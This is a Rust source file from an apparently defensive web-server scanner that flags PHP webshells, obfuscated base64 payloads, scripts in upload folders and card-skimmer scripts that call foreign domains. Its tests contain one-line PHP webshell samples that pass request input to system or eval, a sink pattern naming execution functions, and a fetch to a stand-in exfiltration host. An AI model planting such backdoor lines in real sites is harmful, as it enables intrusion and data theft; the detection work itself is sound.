//! Scanning one webroot file: rules, blobs, foreign domains, location and timestamps.

use std::path::Path;

use chrono::{DateTime, Utc};
use regex::Regex;
use serde::Serialize;
use std::sync::LazyLock;

use crate::rules::{FileClass, RuleSet};
use crate::yara_rules::{StringMatch, YaraRules};

/// Why a file was flagged.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Reason {
    /// Rule id (`php.eval-decoded`) or heuristic (`heuristic.long-base64`).
    pub rule: String,
    /// `webshell`, `obfuscation`, `skimmer`, `code-in-image`, `dropper`, `placement`,
    /// `timestamp`.
    pub kind: String,
    /// 1-based line of the match, when there is one.
    pub line: Option<u64>,
    /// For YARA rules: the strings that matched, with offsets (a few per string).
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub strings: Vec<StringMatch>,
}

/// File times as found (read-only: reading them changes nothing).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Default)]
pub struct FileTimes {
    /// Last modification.
    pub modified: Option<DateTime<Utc>>,
    /// Last status change (Unix ctime): moves on `touch -r` forgery, cannot be set back.
    pub changed: Option<DateTime<Utc>>,
    /// Creation (birth) time where the file system records it.
    pub created: Option<DateTime<Utc>>,
}

impl FileTimes {
    /// Reads the times of `path` without following nothing but the path itself.
    pub fn of(meta: &std::fs::Metadata) -> FileTimes {
        #[cfg(unix)]
        let changed = {
            use std::os::unix::fs::MetadataExt;
            DateTime::from_timestamp(meta.ctime(), meta.ctime_nsec() as u32)
        };
        #[cfg(not(unix))]
        let changed = None;
        FileTimes {
            modified: meta.modified().ok().map(DateTime::<Utc>::from),
            changed,
            created: meta.created().ok().map(DateTime::<Utc>::from),
        }
    }

    /// The earliest time the file is known to have existed in its current form.
    pub fn anchor(&self) -> Option<DateTime<Utc>> {
        [self.created, self.modified].into_iter().flatten().min()
    }
}

/// A flagged file.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct FileVerdict {
    /// Path relative to the webroot, `/`-separated.
    pub path: String,
    /// The most severe reason's severity.
    pub severity: ir110_model::Severity,
    /// Why.
    pub reasons: Vec<Reason>,
    /// Foreign domains the file names (skimmers).
    pub foreign_domains: Vec<String>,
    /// SHA-256.
    pub sha256: String,
    /// Size in bytes.
    pub size: u64,
    /// Times.
    pub times: FileTimes,
}

/// Domains scripts legitimately load from or post to (CDNs, analytics, payment providers,
/// Japanese payment gateways). Anything else named in a script that grabs form fields is
/// suspicious.
const ALLOWED_DOMAINS: &[&str] = &[
    "googleapis.com",
    "gstatic.com",
    "google.com",
    "google-analytics.com",
    "googletagmanager.com",
    "doubleclick.net",
    "jquery.com",
    "jsdelivr.net",
    "unpkg.com",
    "cloudflare.com",
    "cdnjs.cloudflare.com",
    "bootstrapcdn.com",
    "fontawesome.com",
    "wordpress.org",
    "w.org",
    "wp.com",
    "gravatar.com",
    "facebook.net",
    "facebook.com",
    "twitter.com",
    "x.com",
    "youtube.com",
    "vimeo.com",
    "stripe.com",
    "stripe.network",
    "paypal.com",
    "paypalobjects.com",
    "squareup.com",
    "gmo-pg.com",
    "sbpayment.jp",
    "veritrans.co.jp",
    "paygent.co.jp",
    "amazon-pay.com",
    "recaptcha.net",
    "hcaptcha.com",
    "w3.org",
    "schema.org",
    "example.com",
    "ec-cube.net",
    "line.me",
    "yahoo.co.jp",
];

static URL_HOST: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r#"(?i)(?:https?:)?//([a-z0-9][a-z0-9.-]*\.[a-z]{2,})(?::\d+)?[/"'?]"#).ok()
});

/// Domains named in `text` that are neither the site's nor allowlisted.
pub(crate) fn foreign_domains(text: &str, site: &[String]) -> Vec<String> {
    let Some(re) = URL_HOST.as_ref() else {
        return Vec::new();
    };
    let mut out: Vec<String> = re
        .captures_iter(text)
        .filter_map(|c| c.get(1).map(|m| m.as_str().to_ascii_lowercase()))
        .filter(|h| {
            let ok = |d: &str| h == d || h.ends_with(&format!(".{d}"));
            !ALLOWED_DOMAINS.iter().any(|d| ok(d)) && !site.iter().any(|d| ok(d))
        })
        .collect();
    out.sort();
    out.dedup();
    out
}

static TAINT_SOURCE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"\$(\w+)\s*=\s*[^;]{0,200}?\$_(GET|POST|REQUEST|COOKIE|SERVER|FILES)\b").ok()
});

/// The parts of one match the taint heuristic reads.
struct TaintMatch {
    start: usize,
    group1: Option<String>,
    has_group2: bool,
    group4: String,
}

/// All matches of a pattern built per file. On ASCII text (nearly every script) it is
/// compiled as an ASCII-only byte regex, which matches exactly the same there (Unicode `\w`,
/// `\s`, `\b`, `[^;]` and case folding agree with the ASCII ones on ASCII text) and compiles
/// an order of magnitude faster: the Unicode `[^;]{0,200}` dominated `web scan` on big trees.
fn captures(text: &str, pattern: &str) -> Option<Vec<TaintMatch>> {
    let owned = |m: Option<&[u8]>| m.map(|b| String::from_utf8_lossy(b).into_owned());
    if text.is_ascii() {
        let re = regex::bytes::RegexBuilder::new(pattern)
            .unicode(false)
            .build()
            .ok()?;
        Some(
            re.captures_iter(text.as_bytes())
                .filter_map(|c| {
                    Some(TaintMatch {
                        start: c.get(0)?.start(),
                        group1: owned(c.get(1).map(|m| m.as_bytes())),
                        has_group2: c.get(2).is_some(),
                        group4: owned(c.get(4).map(|m| m.as_bytes())).unwrap_or_default(),
                    })
                })
                .collect(),
        )
    } else {
        let re = Regex::new(pattern).ok()?;
        Some(
            re.captures_iter(text)
                .filter_map(|c| {
                    Some(TaintMatch {
                        start: c.get(0)?.start(),
                        group1: c.get(1).map(|m| m.as_str().to_owned()),
                        has_group2: c.get(2).is_some(),
                        group4: c.get(4).map_or_else(String::new, |m| m.as_str().to_owned()),
                    })
                })
                .collect(),
        )
    }
}

/// Request input reaching a dangerous call through variables: `$c = $_GET['c']; …
/// system($c);` or `$f = $_POST['f']; $f($x);`. One pass of propagation per round (three
/// rounds: `$a = $_POST['a']; $b = base64_decode($a); eval($b);`). Returns the byte offset of
/// the sink and whether it is an include (a file-inclusion backdoor) rather than execution.
fn tainted_call(text: &str) -> Option<(usize, bool)> {
    let source = TAINT_SOURCE.as_ref()?;
    let mut vars: Vec<String> = source
        .captures_iter(text)
        .filter_map(|c| c.get(1).map(|m| m.as_str().to_owned()))
        .collect();
    vars.sort();
    vars.dedup();
    if vars.is_empty() {
        return None;
    }
    for _ in 0..3 {
        let alt = vars
            .iter()
            .take(40)
            .map(|v| regex::escape(v))
            .collect::<Vec<_>>()
            .join("|");
        let prop = format!(r"\$(\w+)\s*=\s*[^;]{{0,200}}?\$({alt})\b");
        let before = vars.len();
        vars.extend(captures(text, &prop)?.into_iter().filter_map(|c| c.group1));
        vars.sort();
        vars.dedup();
        if vars.len() == before {
            break;
        }
    }
    let alt = vars
        .iter()
        .take(40)
        .map(|v| regex::escape(v))
        .collect::<Vec<_>>()
        .join("|");
    let sink = format!(
        r"(?i)\b(eval|assert|system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|create_function|(include|require)(_once)?)\s*\(?\s*([^;]{{0,80}})\$({alt})\b|\$({alt})\s*\("
    );
    for c in captures(text, &sink)? {
        let between = c.group4.to_ascii_lowercase();
        // Escaped or cast input is the careful pattern, not a backdoor.
        if [
            "escapeshellarg",
            "escapeshellcmd",
            "intval",
            "(int)",
            "basename",
        ]
        .iter()
        .any(|s| between.contains(s))
        {
            continue;
        }
        return Some((c.start, c.has_group2));
    }
    None
}

/// Length of the longest run of base64 characters, and its offset.
fn longest_base64_run(text: &[u8]) -> (usize, usize) {
    let (mut best, mut best_at, mut run, mut start) = (0, 0, 0, 0);
    for (i, &b) in text.iter().enumerate() {
        if b.is_ascii_alphanumeric() || b == b'+' || b == b'/' || b == b'=' {
            if run == 0 {
                start = i;
            }
            run += 1;
            if run > best {
                best = run;
                best_at = start;
            }
        } else {
            run = 0;
        }
    }
    (best, best_at)
}

fn line_of(text: &str, offset: usize) -> u64 {
    text.as_bytes()[..offset.min(text.len())]
        .iter()
        .filter(|&&b| b == b'\n')
        .count() as u64
        + 1
}

fn severity_of(kind: &str) -> ir110_model::Severity {
    use ir110_model::Severity;
    match kind {
        "placement" => Severity::High,
        "obfuscation" => Severity::Medium,
        _ => Severity::Low,
    }
}

/// Rules a file's content is checked against: YARA (built-in and user) with one scanner per
/// thread, and user rules in the TOML format.
pub(crate) struct Matchers<'a, 's> {
    pub(crate) yara: &'a YaraRules,
    pub(crate) scanner: &'a mut yara_x::Scanner<'s>,
    pub(crate) toml: &'a RuleSet,
}

/// What scanning one file's content gave.
pub(crate) struct ContentVerdict {
    pub(crate) reasons: Vec<Reason>,
    pub(crate) severity: ir110_model::Severity,
    pub(crate) domains: Vec<String>,
    /// The YARA scan failed (timeout): the other checks still ran.
    pub(crate) yara_error: Option<String>,
}

/// Scans a file's content. `rel` is its path relative to the webroot.
pub(crate) fn scan_content(
    rel: &str,
    bytes: &[u8],
    m: &mut Matchers<'_, '_>,
    site_domains: &[String],
) -> ContentVerdict {
    let rules = m.toml;
    let class = FileClass::of(Path::new(rel));
    let text = String::from_utf8_lossy(bytes);
    let mut reasons = Vec::new();
    let mut severity = ir110_model::Severity::Info;
    let mut domains = Vec::new();
    let foreign = if matches!(class, FileClass::Js | FileClass::Html | FileClass::Php) {
        foreign_domains(&text, site_domains)
    } else {
        Vec::new()
    };
    let mut yara_error = None;
    match m.yara.scan(m.scanner, bytes, class) {
        Ok(hits) => {
            for hit in hits {
                if hit.foreign_url && foreign.is_empty() {
                    continue;
                }
                reasons.push(Reason {
                    rule: hit.id,
                    kind: hit.kind,
                    line: hit.cite.map(|at| line_of(&text, lossy_offset(bytes, at))),
                    strings: hit.strings,
                });
                severity = severity.max(hit.severity);
                if hit.foreign_url {
                    domains = foreign.clone();
                }
            }
        }
        Err(e) => yara_error = Some(e),
    }
    for rule in rules.rules.iter().filter(|r| r.applies_to(class)) {
        if rule.foreign_url && foreign.is_empty() {
            continue;
        }
        if let Some(at) = rule.matches(&text) {
            reasons.push(Reason {
                rule: rule.id.clone(),
                kind: rule.kind.clone(),
                line: Some(line_of(&text, at)),
                strings: Vec::new(),
            });
            severity = severity.max(rule.severity);
            if rule.foreign_url {
                domains = foreign.clone();
            }
        }
    }
    if class == FileClass::Php {
        if let Some((at, include)) = tainted_call(&text) {
            reasons.push(Reason {
                rule: if include {
                    "heuristic.request-to-include".into()
                } else {
                    "heuristic.request-to-exec".into()
                },
                kind: "webshell".into(),
                line: Some(line_of(&text, at)),
                strings: Vec::new(),
            });
            severity = severity.max(if include {
                ir110_model::Severity::High
            } else {
                ir110_model::Severity::Critical
            });
        }
    }
    if matches!(
        class,
        FileClass::Php | FileClass::Jsp | FileClass::Aspx | FileClass::Js
    ) {
        // Minified libraries have long lines but not long base64 runs; packed payloads do.
        let (run, at) = longest_base64_run(bytes);
        if run >= 2000 {
            reasons.push(Reason {
                rule: "heuristic.long-base64".into(),
                kind: "obfuscation".into(),
                strings: Vec::new(),
                line: Some(line_of(&text, at)),
            });
            severity = severity.max(severity_of("obfuscation"));
        }
    }
    let lower = rel.to_ascii_lowercase();
    if class == FileClass::Php
        && (lower.contains("/uploads/")
            || lower.starts_with("uploads/")
            || lower.contains("/upload/"))
    {
        reasons.push(Reason {
            rule: "heuristic.script-in-uploads".into(),
            strings: Vec::new(),
            kind: "placement".into(),
            line: None,
        });
        severity = severity.max(severity_of("placement"));
    }
    ContentVerdict {
        reasons,
        severity,
        domains,
        yara_error,
    }
}

/// The offset in the lossy text of byte offset `at` of the raw bytes (they differ only after
/// invalid UTF-8, where each bad sequence became a 3-byte U+FFFD).
fn lossy_offset(bytes: &[u8], at: usize) -> usize {
    let head = &bytes[..at.min(bytes.len())];
    match std::str::from_utf8(head) {
        Ok(_) => at,
        Err(_) => String::from_utf8_lossy(head).len(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn domains_and_blobs() {
        let d = foreign_domains(
            r#"src="https://ajax.googleapis.com/x.js" fetch("https://cdn-jq.example.ru/c?d=")"#,
            &["shop.example.jp".into()],
        );
        assert_eq!(d, ["cdn-jq.example.ru"]);
        assert_eq!(longest_base64_run(b"ab cdef==").0, 6);
    }

    /// The ASCII fast path and the Unicode path agree: the same scripts with a Japanese
    /// comment appended (which sends them down the Unicode path) give the same verdicts.
    #[test]
    fn ascii_and_unicode_taint_paths_agree() {
        for src in [
            "<?php $c = $_GET['c']; system($c);",
            "<?php $a = $_POST['a']; $b = base64_decode($a); eval($b);",
            "<?php $f = $_REQUEST['f']; $f($_REQUEST['x']);",
            "<?php $p = $_GET['page']; include($p . '.php');",
            "<?php $f = $_POST['file']; exec('convert ' . escapeshellarg($f));",
            "<?php $id = (int) $_GET['id']; echo get_post($id);",
        ] {
            let unicode = format!("{src}\n// 管理画面");
            assert_eq!(tainted_call(src), tainted_call(&unicode), "{src}");
        }
    }

    #[test]
    fn taint_through_variables() {
        assert_eq!(
            tainted_call("<?php $c = $_GET['c']; system($c);").map(|t| t.1),
            Some(false)
        );
        assert!(
            tainted_call("<?php $a = $_POST['a']; $b = base64_decode($a); eval($b);").is_some()
        );
        assert!(tainted_call("<?php $f = $_REQUEST['f']; $f($_REQUEST['x']);").is_some());
        assert_eq!(
            tainted_call("<?php $p = $_GET['page']; include($p . '.php');").map(|t| t.1),
            Some(true)
        );
        // Careful code.
        assert!(
            tainted_call("<?php $f = $_POST['file']; exec('convert ' . escapeshellarg($f));")
                .is_none()
        );
        assert!(tainted_call("<?php $id = (int) $_GET['id']; echo get_post($id);").is_none());
        assert!(
            tainted_call("<?php $e = sanitize_email($_POST['e']); wp_mail($e, 's', 'm');")
                .is_none()
        );
    }
}
